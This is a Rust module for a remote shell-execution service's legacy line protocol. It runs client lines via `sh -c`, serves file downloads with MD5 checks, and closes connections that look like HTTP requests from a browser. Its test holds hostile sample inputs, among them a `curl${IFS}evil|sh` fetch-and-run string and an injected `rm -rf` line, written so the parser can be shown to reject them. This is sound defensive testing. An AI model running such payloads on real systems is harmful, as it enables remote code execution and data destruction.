//! One legacy connection: a line in, then the answer in the classic layout. The length goes
//! alone, the data only after the client's acknowledgement (or, from a client that sends
//! none, after a short wait), so that no reader ever finds both in one read.

use super::LegacyConfig;
use crate::core::Core;
use crate::core::audit::Actor;
use crate::core::error::Error;
use crate::core::exec::{BUFFERED_OUTPUT, ExecRequest};
use crate::core::registry::SessionCounters;
use std::sync::Arc;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::sync::CancellationToken;

/// Longest line a client may send.
const MAX_LINE: usize = 1024;
/// Most bytes kept from a client that writes while its command runs; past it the connection
/// is closed.
const MAX_PENDING: usize = 2 * MAX_LINE;
/// Chunks of a file download.
const CHUNK: usize = 256 * 1024;
/// The MD5 sent after an error answer to `get`: it matches no content, so the client's own
/// check fails.
const NO_MD5: &[u8; 32] = b"00000000000000000000000000000000";

/// What this client does after it reads a length.
enum Ack {
    /// Not known yet: wait `ack_wait` for it.
    Unknown,
    /// It acknowledges, with these bytes the first time.
    Sends(Vec<u8>),
    /// It sent nothing within `ack_wait` before: still wait that long, then send.
    Silent,
}

/// The peer left, or the socket failed.
struct Closed;

/// A legacy connection and what it has shown of its client.
pub(super) struct Conn {
    sock: TcpStream,
    cfg: Arc<LegacyConfig>,
    counters: Arc<SessionCounters>,
    ack: Ack,
    /// Bytes received ahead of their turn: the start of the next line.
    pending: Vec<u8>,
}

impl Conn {
    pub(super) fn new(
        sock: TcpStream,
        cfg: Arc<LegacyConfig>,
        counters: Arc<SessionCounters>,
    ) -> Self {
        Conn {
            sock,
            cfg,
            counters,
            ack: Ack::Unknown,
            pending: Vec::new(),
        }
    }

    /// Answers lines until the client closes the connection; returns why it ended.
    pub(super) async fn run(
        &mut self,
        core: &Core,
        actor: &Actor,
        shutdown: &CancellationToken,
    ) -> &'static str {
        loop {
            let line = tokio::select! {
                l = self.next_line() => l,
                _ = shutdown.cancelled() => return "server shutdown",
            };
            let line = match line {
                Ok(Some(l)) => l,
                Ok(None) => return "idle",
                Err(Closed) => return "closed by peer",
            };
            let done = match parse(&line) {
                Line::Get(name) => self.get(core, actor, name).await,
                Line::Command(cmd) => self.command(core, actor, cmd).await,
                Line::Bad(why) => self.reply(why.as_bytes()).await,
                Line::Http => {
                    tracing::warn!(peer = %actor.peer, "an HTTP request on the legacy port: closed without running it");
                    return "http request refused";
                }
            };
            if done.is_err() {
                return "closed by peer";
            }
        }
    }

    /// The next line: bytes that came early, or one read. `None` after the idle timeout.
    async fn next_line(&mut self) -> Result<Option<Vec<u8>>, Closed> {
        loop {
            let line = self.read_line().await?;
            // An acknowledgement that came too late for its answer is not a command.
            match (&self.ack, &line) {
                (Ack::Sends(known), Some(l)) if l == known => continue,
                _ => return Ok(line),
            }
        }
    }

    async fn read_line(&mut self) -> Result<Option<Vec<u8>>, Closed> {
        if !self.pending.is_empty() {
            return Ok(Some(std::mem::take(&mut self.pending)));
        }
        let mut buf = vec![0u8; MAX_LINE + 1];
        let n = match tokio::time::timeout(self.cfg.idle_timeout, self.sock.read(&mut buf)).await {
            Err(_) => return Ok(None),
            Ok(Ok(0)) | Ok(Err(_)) => return Err(Closed),
            Ok(Ok(n)) => n,
        };
        self.counters.add_in(n as u64);
        buf.truncate(n);
        // A line that came in two segments may have its tail here already: take it too.
        let mut more = [0u8; MAX_LINE + 1];
        while buf.len() <= MAX_LINE {
            match self.sock.try_read(&mut more[..MAX_LINE + 1 - buf.len()]) {
                Ok(m @ 1..) => {
                    self.counters.add_in(m as u64);
                    buf.extend_from_slice(&more[..m]);
                }
                _ => break,
            }
        }
        let n = buf.len();
        if n > MAX_LINE {
            // Too long: take in the rest that is already here, so it is not read as the ack.
            let mut more = [0u8; 4096];
            while let Ok(m @ 1..) = self.sock.try_read(&mut more) {
                self.counters.add_in(m as u64);
            }
        }
        Ok(Some(buf))
    }

    /// Runs `cmd` with `sh -c` under the exec policy; the answer is its stdout. A refusal,
    /// timeout or cut is told at the end of the output, after `ferry: `.
    async fn command(&mut self, core: &Core, actor: &Actor, cmd: &str) -> Result<(), Closed> {
        core.registry
            .set_current(&actor.session_id, Some(format!("exec {cmd}")));
        let req = ExecRequest {
            cmd: Some(cmd.to_string()),
            max_output: Some(BUFFERED_OUTPUT),
            ..ExecRequest::default()
        };
        let out = match core.exec.start(actor, req).await {
            Err(e) => failure(&e),
            Ok(handle) => {
                // The client may leave while the command runs: that kills its process group.
                let collect = handle.collect();
                tokio::pin!(collect);
                let (mut out, _stderr, outcome) = loop {
                    let mut early = [0u8; MAX_LINE];
                    tokio::select! {
                        done = &mut collect => break done,
                        r = self.sock.read(&mut early) => match r {
                            Ok(0) | Err(_) => return Err(Closed),
                            Ok(n) => {
                                self.counters.add_in(n as u64);
                                if self.pending.len() + n > MAX_PENDING {
                                    return Err(Closed);
                                }
                                self.pending.extend_from_slice(&early[..n]);
                            }
                        },
                    }
                };
                if outcome.truncated {
                    let cap = core.exec.limits().max_output.min(BUFFERED_OUTPUT);
                    out.extend_from_slice(
                        format!("\nferry: output cut at {cap} bytes (stdout and stderr)\n")
                            .as_bytes(),
                    );
                }
                if let Some(e) = &outcome.error {
                    out.extend_from_slice(&failure(e));
                }
                out
            }
        };
        core.registry.set_current(&actor.session_id, None);
        self.reply(&out).await
    }

    /// Sends `name`: its size, then (after the acknowledgement) its bytes, then its MD5 hex. An
    /// error is sent as the content, with an MD5 that matches nothing.
    async fn get(&mut self, core: &Core, actor: &Actor, name: &str) -> Result<(), Closed> {
        core.registry
            .set_current(&actor.session_id, Some(format!("get {name}")));
        let r = match core.files.get(actor, name, 0, CHUNK).await {
            Err(e) => self.reply(&failure(&e)).await.map(|_| NO_MD5.to_vec()),
            Ok(mut g) => {
                if self.length(g.header.size).await.is_err() {
                    g.abort(true).await;
                    return Err(Closed);
                }
                loop {
                    match g.next_chunk().await {
                        Ok(Some(b)) => {
                            if self.send(&b).await.is_err() {
                                g.abort(true).await;
                                return Err(Closed);
                            }
                        }
                        Ok(None) => break,
                        Err(e) => {
                            // Fewer bytes than announced: the client cannot be answered now.
                            tracing::warn!(session = %actor.session_id, error = %e, "legacy get failed");
                            g.abort(false).await;
                            return Err(Closed);
                        }
                    }
                }
                Ok(g.finish().await.md5.into_bytes())
            }
        };
        core.registry.set_current(&actor.session_id, None);
        let md5 = r?;
        self.send(&md5).await
    }

    /// Sends `body` the classic way: its length alone, the acknowledgement, then the bytes.
    /// After a `0` a client known to send no acknowledgement may send its next line at once:
    /// nothing is awaited then.
    async fn reply(&mut self, body: &[u8]) -> Result<(), Closed> {
        if body.is_empty() && matches!(self.ack, Ack::Silent) {
            return self.send(b"0").await;
        }
        self.length(body.len() as u64).await?;
        if body.is_empty() {
            Ok(())
        } else {
            self.send(body).await
        }
    }

    /// Sends a length in ASCII digits, then waits for the acknowledgement.
    async fn length(&mut self, n: u64) -> Result<(), Closed> {
        self.send(n.to_string().as_bytes()).await?;
        self.await_ack().await
    }

    /// Takes the client's acknowledgement. The first one teaches its bytes, so that a later one
    /// that arrives joined to the next line is split from it. A client silent for `ack_wait`
    /// sends none: the answer goes on, in a segment of its own after that wait.
    async fn await_ack(&mut self) -> Result<(), Closed> {
        if !self.pending.is_empty() {
            // Sent before the length came: it can only be the acknowledgement. The client may
            // not have read the length yet, so the data still waits, as for a silent client.
            let got = std::mem::take(&mut self.pending);
            self.learn(&got);
            tokio::time::sleep(self.cfg.ack_wait).await;
            return Ok(());
        }
        let wait = match self.ack {
            Ack::Sends(_) => self.cfg.ack_patience,
            Ack::Unknown | Ack::Silent => self.cfg.ack_wait,
        };
        let mut buf = [0u8; MAX_LINE];
        match tokio::time::timeout(wait, self.sock.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => Err(Closed),
            Ok(Ok(n)) => {
                self.counters.add_in(n as u64);
                self.learn(&buf[..n]);
                Ok(())
            }
            Err(_) => {
                if matches!(self.ack, Ack::Unknown) {
                    self.ack = Ack::Silent;
                }
                Ok(())
            }
        }
    }

    fn learn(&mut self, got: &[u8]) {
        match &self.ack {
            Ack::Sends(known) => {
                if got.len() > known.len() && got.starts_with(known) {
                    self.pending = got[known.len()..].to_vec();
                }
            }
            Ack::Unknown | Ack::Silent => self.ack = Ack::Sends(got.to_vec()),
        }
    }

    /// Writes `bytes`; a client that takes none of them for the idle timeout is gone.
    async fn send(&mut self, bytes: &[u8]) -> Result<(), Closed> {
        match tokio::time::timeout(self.cfg.idle_timeout, self.sock.write_all(bytes)).await {
            Ok(Ok(())) => {}
            _ => return Err(Closed),
        }
        self.counters.add_out(bytes.len() as u64);
        Ok(())
    }
}

/// What a client asked for.
#[derive(Debug, PartialEq)]
enum Line<'a> {
    /// `get NAME`: a file.
    Get(&'a str),
    /// Anything else: a shell line.
    Command(&'a str),
    /// A line that cannot be run, with the answer that says why.
    Bad(String),
    /// An HTTP request (a browser sent to this port by a web page): never run; the
    /// connection is closed.
    Http,
}

/// Whether `text` starts like an HTTP request: `METHOD TARGET HTTP/`.
fn looks_like_http(text: &str) -> bool {
    let first = text.lines().next().unwrap_or("");
    let mut parts = first.split(' ');
    let method = parts.next().unwrap_or("");
    let _target = parts.next();
    let version = parts.next().unwrap_or("");
    !method.is_empty()
        && method.bytes().all(|b| b.is_ascii_uppercase())
        && version.starts_with("HTTP/")
}

/// Reads a line: UTF-8, at most 1024 bytes, surrounding blanks and a line end ignored.
fn parse(raw: &[u8]) -> Line<'_> {
    if raw.len() > MAX_LINE {
        return Line::Bad(format!("ferry: the line is over {MAX_LINE} bytes\n"));
    }
    let Ok(text) = std::str::from_utf8(raw) else {
        return Line::Bad("ferry: the line is not UTF-8 text\n".into());
    };
    let text = text.strip_suffix('\n').unwrap_or(text);
    let text = text.strip_suffix('\r').unwrap_or(text);
    if looks_like_http(text) {
        return Line::Http;
    }
    if text.chars().any(|c| c.is_control() && c != '\t') {
        return Line::Bad("ferry: the line holds control characters (one line per write)\n".into());
    }
    let text = text.trim();
    if text.is_empty() {
        return Line::Bad("ferry: empty line\n".into());
    }
    match text.split_once(char::is_whitespace) {
        Some(("get", name)) => Line::Get(name.trim()),
        None if text == "get" => Line::Bad("ferry: get needs a file name\n".into()),
        _ => Line::Command(text),
    }
}

/// An error as answer text: `ferry: CODE: MESSAGE`.
fn failure(e: &Error) -> Vec<u8> {
    format!("ferry: {e}\n").into_bytes()
}

#[cfg(test)]
mod tests {
    use super::{Line, parse};

    #[test]
    fn lines() {
        assert_eq!(parse(b"ls -l\n"), Line::Command("ls -l"));
        assert_eq!(parse(b"get a b.txt\r\n"), Line::Get("a b.txt"));
        assert_eq!(parse(b"getent passwd"), Line::Command("getent passwd"));
        assert!(matches!(parse(b"get"), Line::Bad(_)));
        assert!(matches!(parse(b"  \n"), Line::Bad(_)));
        assert!(matches!(parse(&[0xff, 0xfe]), Line::Bad(_)));
        assert!(matches!(parse(&[b'x'; 1025]), Line::Bad(_)));
        assert!(matches!(parse(b"echo a\nrm -rf x"), Line::Bad(_)));
        assert!(matches!(parse(b"echo \x1b[2J"), Line::Bad(_)));
        assert_eq!(parse(b"printf 'a\tb'"), Line::Command("printf 'a\tb'"));
        assert_eq!(
            parse(b"GET /;curl${IFS}evil|sh; HTTP/1.1\r\nHost: x\r\n\r\n"),
            Line::Http
        );
        assert_eq!(parse(b"POST /x HTTP/1.0\r\n"), Line::Http);
        assert_eq!(parse(b"GET x"), Line::Command("GET x"));
    }
}
